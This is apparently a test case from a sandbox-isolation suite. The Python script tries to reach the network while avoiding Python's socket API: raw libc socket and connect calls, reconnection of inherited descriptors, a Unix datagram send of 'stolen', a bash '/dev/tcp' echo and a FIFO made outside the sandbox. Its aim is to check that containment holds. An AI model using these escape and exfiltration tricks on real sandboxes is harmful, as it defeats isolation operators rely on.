"""Reaches for the network without asking for a socket by Python's ways, and with what it has already.

Expect: 0 points
Reason: no file was written
"""

import contextlib
import ctypes
import os
import socket
import subprocess

libc = ctypes.CDLL(None)
descriptor = libc.socket(2, 1, 0)
port = int("@TCP@")
address = b"\2\0" + port.to_bytes(2, "big") + b"\x7f\0\0\1" + bytes(8)
if descriptor >= 0:
    libc.connect(descriptor, address, 16)
with contextlib.suppress(OSError):  # the end of a pair may be sent to other addresses than its other end
    pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    pair[0].sendto(b"stolen", "@DATAGRAM@")
for descriptor in range(3, 20):  # a socket that is there already is connected anew
    unspecified = b"\0" * 16
    libc.connect(descriptor, unspecified, 16)
    libc.connect(descriptor, address, 16)
with contextlib.suppress(OSError):
    subprocess.run(["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/@TCP@"], stderr=-3, timeout=5)
with contextlib.suppress(OSError):
    os.mkfifo("@OUTSIDE@/pipe")
# @NOTHING@
